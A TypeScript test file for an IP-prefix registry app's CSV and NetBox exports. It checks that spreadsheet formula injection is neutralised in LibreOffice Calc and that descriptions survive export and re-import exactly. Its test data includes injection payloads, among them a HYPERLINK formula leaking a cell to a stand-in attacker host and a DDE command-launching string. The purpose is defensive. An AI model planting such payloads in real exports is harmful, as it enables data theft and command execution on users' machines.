/**
 * CSV formula injection (issue 10, item 10; docs/exports.md): the csv and netbox exports, opened
 * by the real LibreOffice Calc, hold no formula, whatever the descriptions say; and an export
 * imported again gives back every description exactly, the hostile ones and the harmless ones.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { afterAll, describe, expect, it } from 'vitest';
import { addPrefix, listPrefixes } from '../../../../../electron/core/services/registry';
import { exportPrefixes, importPrefixes } from '../../../../../electron/core/services/registry-io';
import { tempDir } from '../../../../support/tmp';
import { fresh } from '../../../../support/registry-workspace';

const SOFFICE = '/usr/bin/soffice';
const hasSoffice = existsSync(SOFFICE);
const tmp = tempDir('headroom-csv-injection-');
afterAll(() => tmp.cleanup());

const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1;"click me")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', '=1+1', '\t=1+1', '\r=2+2'];
const HARMLESS = ['- spare', '-', "'=already quoted", "''", "'quoted'", "don't", ' leading and trailing space ', 'Acme, Ltd', 'two\nlines', 'plain'];
const DESCRIPTIONS = [...HOSTILE, ...HARMLESS];

async function workspaceWithDescriptions() {
  const ws = await fresh();
  DESCRIPTIONS.forEach((description, i) => addPrefix(ws, { prefix: `10.${i}.0.0/16`, status: 'assigned', description }));
  return ws;
}

let runs = 0;
/** The file as LibreOffice Calc reads it, saved as flat ODF: each cell's formula (if any) and text. */
function calcCells(csv: string): { formula: string | null; text: string }[] {
  const n = ++runs;
  const file = tmp.path(`export-${n}.csv`);
  writeFileSync(file, csv);
  // A fresh profile per conversion: a shared one is locked by a concurrent soffice.
  execFileSync(SOFFICE, [`-env:UserInstallation=file://${tmp.path(`profile-${n}`)}`, '--headless', '--convert-to', 'fods', '--outdir', tmp.path(''), file], {
    stdio: 'pipe',
    timeout: 120_000,
  });
  const xml = readFileSync(tmp.path(`export-${n}.fods`), 'utf8');
  const unescape = (s: string) =>
    s
      .replace(/&quot;/g, '"')
      .replace(/&apos;/g, "'")
      .replace(/&lt;/g, '<')
      .replace(/&gt;/g, '>')
      .replace(/&amp;/g, '&');
  const cells: { formula: string | null; text: string }[] = [];
  for (const m of xml.matchAll(/<table:table-cell\b([^>]*?)(?:\/>|>([\s\S]*?)<\/table:table-cell>)/g)) {
    const formula = /table:formula="([^"]*)"/.exec(m[1]!)?.[1];
    const paragraphs = [...(m[2] ?? '').matchAll(/<text:p>([\s\S]*?)<\/text:p>/g)].map((p) =>
      unescape(
        p[1]!
          .replace(/<text:tab\/>/g, '\t')
          .replace(/<text:s\/>/g, ' ')
          .replace(/<[^>]+>/g, ''),
      ),
    );
    cells.push({ formula: formula === undefined ? null : unescape(formula), text: paragraphs.join('\n') });
  }
  return cells;
}

describe.runIf(hasSoffice)('the csv and netbox exports in LibreOffice Calc', () => {
  it.each(['csv', 'netbox'] as const)(
    '%s: no cell is a formula; each hostile description comes back as text behind a quote',
    async (format) => {
      const ws = await workspaceWithDescriptions();
      const { text } = exportPrefixes(ws, { format });
      const cells = calcCells(text);
      expect(cells.filter((c) => c.formula !== null)).toEqual([]);
      const texts = cells.map((c) => c.text);
      for (const d of ['=HYPERLINK("http://evil.example/?leak="&A1;"click me")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', '=1+1'])
        expect(texts).toContain(`'${d}`);
      expect(texts).toContain('- spare'.replace(/^/, "'"));
      expect(texts).toContain("don't");
    },
    240_000,
  );
});

describe('export then import', () => {
  it.each(['csv', 'netbox'] as const)('%s: every description comes back exactly, hostile or harmless', async (format) => {
    const ws = await workspaceWithDescriptions();
    const { text } = exportPrefixes(ws, { format });
    for (const line of text.split('\r\n')) expect(line).not.toMatch(/(^|,)"?[=+\-@\t\r]/);
    const copy = await fresh();
    importPrefixes(copy, { format, text });
    const byPrefix = (w: typeof ws) => Object.fromEntries(listPrefixes(w, {}).rows.map((r) => [r.prefix, r.description]));
    expect(byPrefix(copy)).toEqual(byPrefix(ws));
    expect(Object.values(byPrefix(copy)).sort()).toEqual([...DESCRIPTIONS].sort());
  });

  it("takes a quote off only where the exporter put one: a hand-made file's quotes stay", async () => {
    const ws = await fresh();
    const text = [
      'prefix,status,description,space,date',
      "10.0.0.0/24,assigned,'quoted',,",
      "10.0.1.0/24,assigned,'=1+1,,",
      "10.0.2.0/24,assigned,''=x,,",
      "10.0.3.0/24,assigned,it's fine,,",
      '10.0.4.0/24,assigned,"\t=1+1",,',
      '',
    ].join('\r\n');
    importPrefixes(ws, { format: 'csv', text });
    expect(listPrefixes(ws, {}).rows.map((r) => r.description)).toEqual(["'quoted'", '=1+1', "'=x", "it's fine", '\t=1+1']);
  });
});
